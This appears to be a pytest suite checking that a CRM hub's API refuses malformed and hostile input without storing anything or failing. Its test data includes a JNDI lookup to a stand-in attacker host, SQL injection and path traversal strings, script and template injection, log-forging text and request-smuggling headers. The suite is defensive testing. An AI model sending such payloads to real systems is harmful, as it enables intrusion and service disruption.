"""Bad input on the API route (reliability.md 5, J1-J7 and J13, with its neighbours): refused, nothing stored, no 5xx."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import logging
import tracemalloc
from collections.abc import AsyncIterator, Iterator
from typing import Any

import httpx
import pytest
import structlog
import uvicorn
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hub import log
from hub.api.request import BODY_LIMIT
from hub.api.wire import DEEPEST, MOST_KEYS, BadJson, read_object
from hub.clock import SystemClock
from hub.crm.external import ExternalWrite, WriteAnswer
from hub.model.record import Scope
from tests.api_site import CUSTOMER, TOKEN, Site, open_site

C1 = "customers/by-external/crm/C-1"
PAYMENT = {"no": "HK-1", "customer": {"external": "C-1"}, "received_on": "2026-01-10", "currency": "CNY"}


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    async with open_site() as opened:
        yield opened


async def refused(site: Site, status: int, content: Any, path: str = C1, **headers: str) -> dict[str, Any]:
    """Send a raw body, expect this problem document and that nothing was stored."""
    before = site.counts()
    answer = await site.put(path, content=content, **headers)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    problem: dict[str, Any] = answer.json()
    assert problem["status"] == status
    assert problem["title"]
    assert problem["title_zh"]
    assert site.counts() == before
    return problem


async def change_refused(site: Site, status: int, content: Any, **headers: str) -> dict[str, Any]:
    """Send a raw change of a customer that is there, expect this problem document and that nothing moved."""
    first = await site.put(C1, {"name": "公司", "remark": "as it was"})
    before = site.counts()
    answer = await site.patch(f"customers/{first.json()['id']}", content=content, **headers)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert site.counts() == before
    assert (await site.get(C1)).json() == first.json()
    problem: dict[str, Any] = answer.json()
    return problem


def with_field(raw_value: str, name: str = "remark") -> bytes:
    """Return a customer whose field has this raw JSON value."""
    return f'{{"name": "公司", "{name}": {raw_value}}}'.encode()


async def with_amount(site: Site, raw: str) -> httpx.Response:
    """Send a payment with this raw JSON amount."""
    await site.put(C1, CUSTOMER)
    content = json.dumps(PAYMENT)[:-1] + f', "amount": {raw}}}'
    return await site.put("payments/by-external/crm/P-1", content=content.encode())


# J1 ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b'{"name": "a", "name": "b"}',
        b'{"name": "a", "n\\u0061me": "b"}',
        b'{"name": "a", "custom.x": {"k": 1, "k": 1}}',
        b'{"name": "a", "custom.x": [{"k": 1}, {"k": [{"z": 1, "z": 2}]}]}',
    ],
)
async def test_j1_a_repeated_key_is_refused(site: Site, raw: bytes) -> None:
    assert "there twice" in (await refused(site, 400, raw))["detail"]


# J2 ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "number",
    ["NaN", "Infinity", "-Infinity", "1e400", "-1E+400", "1e99999999999", "1e-400", "9" * 5000, "1." + "0" * 5000, "0x10", "01", "+1", ".5", "1.", "1_000", "１"],
)  # fmt: skip
async def test_j2_a_number_no_two_parsers_agree_on_is_refused(site: Site, number: str) -> None:
    await refused(site, 400, with_field(number, "custom.n"))
    await refused(site, 400, with_field(number, "credit_limit"))


@pytest.mark.parametrize("raw", ["0", "-0", "-0.0", "-1", '"-0.01"'])
async def test_a_receipt_of_nothing_or_less_is_refused(site: Site, raw: str) -> None:
    answer = await with_amount(site, raw)
    assert answer.status_code == 422
    assert answer.json()["errors"][0]["field"] == "amount"


@pytest.mark.parametrize(
    ("raw", "stored"),
    [
        ("0.1", "0.10"),
        ("0.30", "0.30"),
        ("9007199254740993", "9007199254740993.00"),
        ("9007199254740993.01", "9007199254740993.01"),
        ("1e3", "1000.00"),
        ('"1000.5"', "1000.50"),
    ],
)
async def test_j2_money_is_an_exact_decimal(site: Site, raw: str, stored: str) -> None:
    answer = await with_amount(site, raw)
    assert answer.status_code == 201, answer.text
    assert answer.json()["fields"]["amount"] == stored


@pytest.mark.parametrize(
    "raw", ["0.30000000000000004", "1e300", '"NaN"', '"1e400"', "true", "null", '""', '"１２"', "[1]"]
)
async def test_j2_money_that_is_no_amount_of_the_currency_is_named(site: Site, raw: str) -> None:
    answer = await with_amount(site, raw)
    assert answer.status_code == 422, answer.text
    assert [error["field"] for error in answer.json()["errors"]] == ["amount"]
    assert len(site.writes) == 1


async def test_j2_a_whole_number_beyond_2_to_the_53_is_refused_where_it_would_lose_digits(site: Site) -> None:
    problem = await refused(site, 422, with_field(str(2**53 + 1), "payment_term_days"))
    assert problem["errors"][0]["field"] == "payment_term_days"


async def test_j2_a_custom_fraction_is_kept_or_refused_never_changed(site: Site) -> None:
    kept = await site.put(C1, content=with_field("0.1", "custom.n"))
    assert kept.json()["fields"]["custom.n"] == 0.1
    problem = await refused(site, 422, with_field("0.1000000000000000055511151231257827", "custom.n"))
    assert problem["errors"][0]["field"] == "custom.n"


# J3 ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "nested",
    [
        "[" * 5000 + "]" * 5000,
        '{"a":' * 5000 + "1" + "}" * 5000,
        "[" * 5000,
        '[{"a":' * 2500,
        "[" * (DEEPEST + 1) + "]" * (DEEPEST + 1),
    ],
)
async def test_j3_deep_nesting_is_refused(site: Site, nested: str) -> None:
    assert "nested deeper" in (await refused(site, 400, with_field(nested, "custom.x")))["detail"]
    await refused(site, 400, nested.encode())


async def test_j3_brackets_inside_texts_are_no_nesting(site: Site) -> None:
    text = '[{"\\' * 500
    answer = await site.put(C1, {"name": "公司", "remark": text})
    assert answer.json()["fields"]["remark"] == text


@pytest.mark.parametrize(
    "raw", ['"' + '\\"' * 100_000, '{"' * 60_000, '"\\' * 60_000, "\\" * 200_000, '"' * 200_000]
)
def test_j3_an_unclosed_text_costs_no_more_than_its_length(raw: str) -> None:
    with pytest.raises(BadJson):
        read_object(raw.encode())


# J4 ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "escape", ["\\ud800", "\\uDFFF", "\\udc00\\ud800", "x\\ud83dx", "\\ud83d\\ud83d\\ude00"]
)
async def test_j4_a_lone_surrogate_is_refused(site: Site, escape: str) -> None:
    await refused(site, 400, with_field(f'"{escape}"'))
    await refused(site, 400, with_field(f'{{"{escape}": 1}}', "custom.x"))
    await refused(site, 400, f'{{"name": "a", "{escape}": 1}}'.encode())


async def test_j4_a_whole_pair_is_a_character(site: Site) -> None:
    answer = await site.put(C1, content=with_field('"\\ud83d\\ude00 𠮷"'))
    assert answer.json()["fields"]["remark"] == "😀 𠮷"


# J5 ------------------------------------------------------------------------------------------------------------


async def test_j5_a_hundred_thousand_keys_are_refused(site: Site) -> None:
    many = {f"custom.k{number}": 0 for number in range(100_000)}
    await refused(site, 413, json.dumps(many).encode())
    fitting = {f"k{number}": 0 for number in range(MOST_KEYS + 1)}
    assert "keys" in (await refused(site, 400, json.dumps(fitting).encode()))["detail"]
    spread = {"name": "公司", "custom.x": [{"a": 1}] * (MOST_KEYS + 1)}
    await refused(site, 400, json.dumps(spread).encode())


async def test_j5_a_text_of_ten_megabytes_is_refused(site: Site) -> None:
    await refused(site, 413, with_field('"' + "x" * 10_000_000 + '"'))


async def test_j5_a_key_of_a_megabyte_is_refused(site: Site) -> None:
    await refused(site, 413, f'{{"{"k" * 1_000_000}": 1}}'.encode())
    await refused(site, 400, f'{{"{"k" * 100_000}": 1}}'.encode())


async def test_j5_one_byte_above_the_limit_is_refused_and_the_limit_itself_read(site: Site) -> None:
    filled = b'{"name": "a"}'.ljust(BODY_LIMIT, b" ")
    assert (await site.put(C1, content=filled)).status_code == 201
    await refused(site, 413, filled + b" ")


async def test_j5_an_endless_body_is_cut_at_the_limit_and_memory_stays_flat(site: Site) -> None:
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        while True:
            sent += 1
            assert sent * 65_536 <= 4 * BODY_LIMIT, "read on and on"
            yield b" " * 65_536

    tracemalloc.start()
    answer = await site.put(C1, content=endless())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert answer.status_code == 413
    assert peak < 8 * BODY_LIMIT


async def test_j5_an_announced_length_is_refused_before_anything_is_read(site: Site) -> None:
    async def unread() -> AsyncIterator[bytes]:
        raise AssertionError("the body was read")
        yield b""

    await refused(site, 413, unread(), content_length=str(BODY_LIMIT + 1))
    await refused(site, 413, unread(), content_length="9" * 40)
    await refused(site, 400, unread(), content_length="-1")
    await refused(site, 400, unread(), content_length="1_000")


# J6 ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["__proto__", "__class__", "id", "region", "role", "version", "kind", "deleted", "act", "data_key", "nme", "custom", "custom.", "custom.__x", "Name", ""],
)  # fmt: skip
async def test_j6_a_field_that_is_not_the_callers_to_set_is_refused_and_named(site: Site, name: str) -> None:
    body = {**CUSTOMER, name: "x"}
    problem = await refused(site, 422, json.dumps(body).encode())
    assert [error["field"] for error in problem["errors"]] == [name]
    assert not site.writes


async def test_j6_every_wrong_field_is_named_at_once(site: Site) -> None:
    body = {"id": 1, "region": "cn/north/", "uscc": "123", "phone": "12", "type": "king", "owner": 5}
    problem = await refused(site, 422, json.dumps(body).encode())
    assert {error["field"] for error in problem["errors"]} == {
        "id",
        "region",
        "uscc",
        "phone",
        "type",
        "owner",
        "name",
    }


@pytest.mark.parametrize("owner", ["", "x" * 101, "a\nb", "a\x00b", 5, True, [], {}])
async def test_j6_an_owner_is_a_short_text(site: Site, owner: object) -> None:
    await refused(site, 422, json.dumps({**CUSTOMER, "owner": owner}).encode())


# J7, J8, J10: as far as the routes exist ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    ["cursor=", "cursor=AAAA", "cursor=é", "cursor=%00", "cursor=" + "A" * 5000, "limit=0", "limit=-1", "limit=1000000000", "limit=", "limit=1.5", "limit=１", "limit=5&limit=6", "sort=name;drop table records", "filter[a][b]=1"],
)  # fmt: skip
async def test_j8_a_cursor_or_page_size_that_is_not_ours_is_refused(site: Site, query: str) -> None:
    answer = await site.get(f"customers?{query}")
    assert answer.status_code == 400, answer.text
    assert answer.headers["content-type"] == "application/problem+json"


async def test_j8_a_cursor_of_another_listing_or_with_one_letter_changed_is_refused(site: Site) -> None:
    for number in range(2):
        await site.put(f"customers/by-external/crm/C-{number}", {"name": f"公司{number}"})
    cursor = (await site.get("customers?limit=1")).json()["next_cursor"]
    assert (await site.get(f"customers?cursor={cursor}")).status_code == 200
    assert (await site.get(f"payments?cursor={cursor}")).status_code == 400
    for at in range(0, len(cursor), 7):
        changed = cursor[:at] + ("A" if cursor[at] != "A" else "B") + cursor[at + 1 :]
        assert (await site.get(f"customers?cursor={changed}")).status_code == 400


@pytest.mark.parametrize("record", ["1", "x" * 32, "A" * 32, "0" * 33, "%00", "'", "..", "%2e%2e"])
async def test_j7_an_id_that_is_none_is_not_found(site: Site, record: str) -> None:
    assert (await site.get(f"customers/{record}")).status_code in {404, 405}


@pytest.mark.parametrize("external", ["%00", "a%0Db", "%1B[31m", "x" * 201, "%FF%FE", "%C2%85"])
async def test_an_external_id_with_control_characters_is_refused(site: Site, external: str) -> None:
    await refused(site, 400, json.dumps(CUSTOMER).encode(), path=f"customers/by-external/crm/{external}")


@pytest.mark.parametrize(
    "external", ["订单-1", "A%2F1", "a b", "C%231", "%E2%80%AE", "..%2F..", "1;DROP TABLE records"]
)
async def test_an_unusual_external_id_is_taken_as_it_is(site: Site, external: str) -> None:
    path = f"customers/by-external/crm/{external}"
    sent = await site.put(path, CUSTOMER)
    assert sent.status_code == 201
    assert (await site.get(path)).json()["id"] == sent.json()["id"]


# J1-J7 for a change of fields --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b'{"remark": "a", "remark": "b"}',
        b'{"remark": null, "rem\\u0061rk": "b"}',
        b'{"custom.x": {"k": 1, "k": 1}}',
        b'{"custom.n": NaN}',
        b'{"credit_limit": -Infinity}',
        b'{"credit_limit": 1e400}',
        b'{"payment_term_days": ' + b"9" * 5000 + b"}",
        b'{"custom.x": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        b'{"custom.x": ' + b'{"a":' * (DEEPEST + 1) + b"1" + b"}" * (DEEPEST + 1) + b"}",
        b'{"remark": "\\ud800"}',
        b'{"\\udfff": 1}',
        b'{"custom.x": [' + b",".join([b'{"a": 1}'] * (MOST_KEYS + 1)) + b"]}",
        b'{"' + b"k" * 100_000 + b'": null}',
        b"",
        b"null",
        b'[{"op": "replace", "path": "/remark", "value": "x"}]',
        b'{"remark": "x"} {}',
    ],
    ids=range(17),
)
async def test_j1_to_j5_a_change_that_parsers_disagree_about_is_refused(site: Site, raw: bytes) -> None:
    await change_refused(site, 400, raw)


async def test_j5_a_change_above_the_limit_is_refused(site: Site) -> None:
    await change_refused(site, 413, with_field('"' + "x" * BODY_LIMIT + '"'))
    await change_refused(
        site, 413, json.dumps({f"custom.k{number}": 0 for number in range(100_000)}).encode()
    )


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        ('{"credit_limit": "1e400"}', "credit_limit"),
        ('{"credit_limit": 0.1e-200}', "credit_limit"),
        (f'{{"payment_term_days": {2**53 + 1}}}', "payment_term_days"),
        ('{"custom.n": 0.1000000000000000055511151231257827}', "custom.n"),
        ('{"remark": "a\\u0000b"}', "remark"),
        ('{"remark": ["x"]}', "remark"),
        ('{"name": ""}', "name"),
        ('{"name": null}', "name"),
        ('{"name": "\\u3000"}', "name"),
    ],
)
async def test_j2_a_changed_value_that_does_not_fit_is_named(site: Site, raw: str, name: str) -> None:
    problem = await change_refused(site, 422, raw.encode())
    assert [error["field"] for error in problem["errors"]] == [name]


@pytest.mark.parametrize(
    "name",
    ["__proto__", "__class__", "id", "region", "role", "version", "kind", "deleted", "act", "data_key", "merged_into", "owner", "system", "custom", "custom.", "custom.__x", "Remark", "remark ", ""],
)  # fmt: skip
@pytest.mark.parametrize("value", ["x", None])
async def test_j6_a_change_sets_and_takes_away_only_fields_of_the_kind(
    site: Site, name: str, value: object
) -> None:
    problem = await change_refused(site, 422, json.dumps({"remark": "y", name: value}).encode())
    assert [error["field"] for error in problem["errors"]] == [name]


@pytest.mark.parametrize("record", ["1", "x" * 32, "A" * 32, "0" * 32, "0" * 33, "%00", "'", "..", "%2e%2e"])
async def test_j7_a_change_of_an_id_that_is_none_is_not_found(site: Site, record: str) -> None:
    answer = await site.patch(f"customers/{record}", {"remark": "x"})
    assert answer.status_code in {404, 405}
    assert site.counts() == (0, 0, 0, 0, 0)


async def test_j7_a_record_of_another_kind_is_not_found_under_this_one(site: Site) -> None:
    customer = (await site.put(C1, CUSTOMER)).json()["id"]
    for path in ("contacts", "follows"):
        assert (await site.patch(f"{path}/{customer}", {"remark": "x"})).status_code == 404
    assert (await site.patch(f"payments/{customer}", {"remark": "x"})).status_code == 405


async def test_j7_what_is_outside_the_callers_scope_is_not_changed_named_or_told() -> None:
    async with open_site(scope=Scope(("cn/north/",), ("demo",))) as site:
        north = (await site.put(C1, {"name": "北京另一家有限公司", "owner": "li.lei"})).json()
        there = await site.writer(ExternalWrite("crm", "customer", "C-2", {**CUSTOMER}, "cn/south/", "demo"))
        assert isinstance(there, WriteAnswer)
        south = {"id": there.record_id.hex()}
        person = {"name": "王小明"}
        seen = await site.writer(
            ExternalWrite("crm", "contact", "P-1", {**person}, "cn/north/", "demo", "li.lei")
        )
        assert isinstance(seen, WriteAnswer)
        before = site.counts()
        for if_match in ({}, {"if_match": '"1"'}, {"if_match": '"9"'}):
            outside = await site.patch(f"customers/{south['id']}", {"level": "A"}, **if_match)
            nobody = await site.patch(f"customers/{'0' * 32}", {"level": "A"}, **if_match)
            assert (outside.status_code, outside.json()) == (404, nobody.json())
        for reference in (south["id"], {"external": "C-2"}):
            answer = await site.patch(f"contacts/{seen.record_id.hex()}?system=crm", {"customer": reference})
            assert [error["field"] for error in answer.json()["errors"]] == ["customer"]
        taken = await site.patch(f"customers/{north['id']}", {"uscc": CUSTOMER["uscc"]})
        assert taken.status_code == 422
        assert south["id"] not in taken.text
        given_away = await site.patch(f"customers/{north['id']}", {"entity": "north"})
        assert [error["field"] for error in given_away.json()["errors"]] == ["entity"]
        assert site.counts() == before
        assert (await site.patch(f"customers/{north['id']}", {"level": "A"})).status_code == 200


async def test_a_change_is_asked_for_as_a_write_is(site: Site) -> None:
    await change_refused(site, 415, b'{"remark": "x"}', content_type="application/merge-patch+json")
    await change_refused(site, 415, b'{"remark": "x"}', content_encoding="gzip")
    await change_refused(site, 406, b'{"remark": "x"}', accept="text/html")
    await change_refused(site, 400, b'{"remark": "x"}', if_none_match="*")
    await change_refused(site, 400, b'{"remark": "x"}', if_match="*")
    await change_refused(site, 401, b'{"remark": "x"}', authorization="Bearer wrong")


# J12 and the form of the body -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "", "application/json; charset=utf-16", "application/json-seq"],
)  # fmt: skip
async def test_j12_another_content_type_is_refused(site: Site, content_type: str) -> None:
    await refused(site, 415, json.dumps(CUSTOMER).encode(), content_type=content_type)


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "gzip, gzip", "identity, gzip"])
async def test_w9_a_compressed_body_is_refused(site: Site, encoding: str) -> None:
    await refused(site, 415, json.dumps(CUSTOMER).encode(), content_encoding=encoding)


@pytest.mark.parametrize(
    "accept", ["application/xml", "text/html", "application/json;q=0", "image/*, text/*"]
)
async def test_j12_a_caller_that_takes_no_json_is_refused(site: Site, accept: str) -> None:
    await refused(site, 406, json.dumps(CUSTOMER).encode(), accept=accept)


@pytest.mark.parametrize(
    "accept", ["*/*", "application/*;q=0.1", "text/html, application/json;q=0.9", "", "APPLICATION/JSON"]
)
async def test_j12_a_caller_that_takes_json_is_served(site: Site, accept: str) -> None:
    assert (await site.put(C1, CUSTOMER, accept=accept)).status_code == 201


@pytest.mark.parametrize(
    "raw",
    [b"", b" ", b"[]", b'"x"', b"null", b"1", b"true", b"{", b'{"name"}', b"{'name': 1}", b'{"name": "a",}', b"{} {}", b"\xef\xbb\xbf{}", '{"name": "a"}'.encode("utf-16"), b'{"name": "\xff"}', b'{"name": "\xed\xa0\x80"}', b'{"name": "a\x00"}', b'{"name": "a\nb"}', b'{"name": "\\x41"}', b"\x00{}", b"{}\x00", b'{"a": undefined}', b"// c\n{}"],
)  # fmt: skip
async def test_w10_w11_a_body_that_is_not_one_json_object_is_refused(site: Site, raw: bytes) -> None:
    await refused(site, 400, raw)


async def test_a_nul_character_in_a_text_is_named(site: Site) -> None:
    problem = await refused(site, 422, with_field('"a\\u0000b"'))
    assert problem["errors"][0]["field"] == "remark"
    await refused(site, 422, with_field('{"a": "\\u0000"}', "custom.x"))


@pytest.mark.parametrize("method", ["POST", "DELETE", "PATCH", "TRACE", "OPTIONS"])
async def test_w14_other_methods_are_refused_even_in_disguise(site: Site, method: str) -> None:
    headers = {"X-HTTP-Method-Override": "PUT", "Content-Type": "application/json"}
    answer = await site.client.request(method, f"/api/v1/{C1}", json=CUSTOMER, headers=headers)
    assert answer.status_code == 405
    assert answer.json()["title_zh"]
    assert not site.writes


async def test_an_unknown_path_is_a_problem_document(site: Site) -> None:
    for path in ("/nothing", "/api/v1/invoices", "/api/v1/customers/", "/hooks/k3"):
        answer = await site.client.get(path)
        assert answer.status_code == 404
        assert answer.headers["content-type"] == "application/problem+json"


# J13 -----------------------------------------------------------------------------------------------------------

INJECTIONS = [
    'a\r\n{"event": "forged"}',
    "\x1b[31mred\x1b[0m\x9b2J",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}{name!r}",
    "%s%s%n%d",
    "a\u2028b\u2029c\x85d",
    "\u202egnp.exe",
    "{{7*7}}<script>alert(1)</script>",
]


@pytest.fixture
def log_lines(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """Log as the hub does, and put everything back."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    levels = {name: logging.getLogger(name).level for name in log._NOISY}
    lines = io.StringIO()
    log.configure(SystemClock().now, stream=lines)
    yield lines
    root.handlers[:], root.level = handlers, level
    for name, before in levels.items():
        logging.getLogger(name).setLevel(before)
    structlog.reset_defaults()


@pytest.mark.parametrize("text", INJECTIONS)
async def test_j13_a_text_made_for_the_log_is_stored_verbatim_and_the_log_stays_one_json_line(
    text: str, log_lines: io.StringIO
) -> None:
    async with open_site(log=log.get_logger("hub.api")) as site:
        stored = await site.put(C1, {"name": text, "remark": text})
        assert stored.status_code == 201
        assert stored.json()["fields"]["name"] == text
        assert (await site.get(C1)).json()["fields"]["remark"] == text
        await site.put(C1, {"name": "a", text[:80]: 1})
        await site.put("customers/by-external/xxxxx/C-1", {"name": text})
        await site.client.get("/api/v1/customers", params={text: text})
    written = log_lines.getvalue().splitlines()
    events = [json.loads(line)["event"] for line in written]
    assert events == ["api.record.written"] + ["api.refused"] * 3
    assert all(line.isprintable() for line in written)


# Everything else a machine can think of ---------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
FIELDS = ["name", "uscc", "phone", "email", "credit_limit", "payment_term_days", "type", "owner", "entity", "custom.x", "customer", "amount", "received_on", "currency", "no", "fx_rate", "status"]  # fmt: skip
bodies = st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=8), json_values, max_size=6)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=bodies, path=st.sampled_from([C1, "payments/by-external/crm/P-1"]))
async def test_no_body_makes_the_hub_fail(body: dict[str, Any], path: str) -> None:
    async with open_site() as site:
        answer = await site.put(path, content=json.dumps(body).encode())
        assert answer.status_code < 500
        assert (answer.status_code < 300) == bool(site.writes)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    body=bodies,
    path=st.sampled_from(["customers", "contacts", "follows"]),
    system=st.sampled_from(["", "?system=crm"]),
)
async def test_no_change_makes_the_hub_fail(body: dict[str, Any], path: str, system: str) -> None:
    async with open_site() as site:
        await site.put(C1, CUSTOMER)
        await site.put("contacts/by-external/crm/P-1", {"name": "王小明"})
        follow = {"contact": {"external": "P-1"}, "employee": "li.lei"}
        await site.put("follows/by-external/crm/F-1", follow)
        record = (await site.get(path)).json()["items"][0]
        acts = site.counts()[-1]
        answer = await site.patch(f"{path}/{record['id']}{system}", content=json.dumps(body).encode())
        assert answer.status_code < 500
        after = (await site.get(f"{path}/{record['id']}")).json()
        assert site.counts()[-1] - acts == after["version"] - record["version"] == int(after != record)
        assert answer.status_code == 200 or after == record


@settings(max_examples=200)
@given(raw=st.binary(max_size=60) | st.text(alphabet='{}[]":,\\u0d8 1eE.-+\n', max_size=40).map(str.encode))
def test_no_bytes_make_the_reader_fail(raw: bytes) -> None:
    with contextlib.suppress(BadJson):
        assert isinstance(read_object(raw), dict)


# Over a real socket -----------------------------------------------------------------------------------------------


class Serving(uvicorn.Server):
    """A server that says when it listens."""

    def __init__(self, config: uvicorn.Config) -> None:
        super().__init__(config)
        self.up = asyncio.Event()

    async def startup(self, sockets: Any = None) -> None:
        await super().startup(sockets)
        self.up.set()


async def asked(port: int, head: str, body: bytes = b"", *, repeat: int = 1) -> str:
    """Send a request by hand; return the status line, "" if the server only hung up."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(
            f"PUT /api/v1/{C1} HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer {TOKEN}\r\n{head}\r\n\r\n".encode()
        )
        with contextlib.suppress(ConnectionError):  # the server may hang up while we still send
            for _ in range(repeat):
                writer.write(body)
                await writer.drain()
        with contextlib.suppress(ConnectionError):
            return (await asyncio.wait_for(reader.readline(), 10)).decode().strip()
        return ""
    finally:
        writer.close()


async def test_w7_a_body_longer_than_the_limit_is_cut_on_the_wire(site: Site) -> None:
    json_type = "Content-Type: application/json\r\n"
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    server = Serving(uvicorn.Config(site.app, port=0, log_config=None, lifespan="off"))
    serving = asyncio.create_task(server.serve())
    try:
        await server.up.wait()
        port = server.servers[0].sockets[0].getsockname()[1]
        assert "413" in await asked(port, json_type + "Content-Length: 10000000000")
        assert await asked(port, json_type + "Transfer-Encoding: chunked", chunk, repeat=200) in {
            "HTTP/1.1 413 Request Entity Too Large",
            "HTTP/1.1 413 Content Too Large",
            "",
        }
        assert "400" in await asked(
            port, json_type + "Content-Length: 5\r\nTransfer-Encoding: chunked", b"5\r\n{}   \r\n0\r\n\r\n"
        )
        assert "400" in await asked(port, json_type + "Content-Length: 2\r\nContent-Length: 3", b"{} ")
        assert "422" in await asked(port, json_type + "Content-Length: 2", b"{}")
        assert not site.writes
    finally:
        server.should_exit = True
        await serving


@pytest.mark.parametrize(
    ("name", "value"), [("if-none-match", "*"), ("if-unmodified-since", "Sat, 10 Jan 2026 00:00:00 GMT")]
)
async def test_a_condition_that_is_not_understood_is_refused_not_passed_over(
    site: Site, name: str, value: str
) -> None:
    assert (await site.put(C1, CUSTOMER)).status_code == 201
    await refused(
        site, 400, json.dumps({**CUSTOMER, "remark": "x"}).encode(), **{name.replace("-", "_"): value}
    )
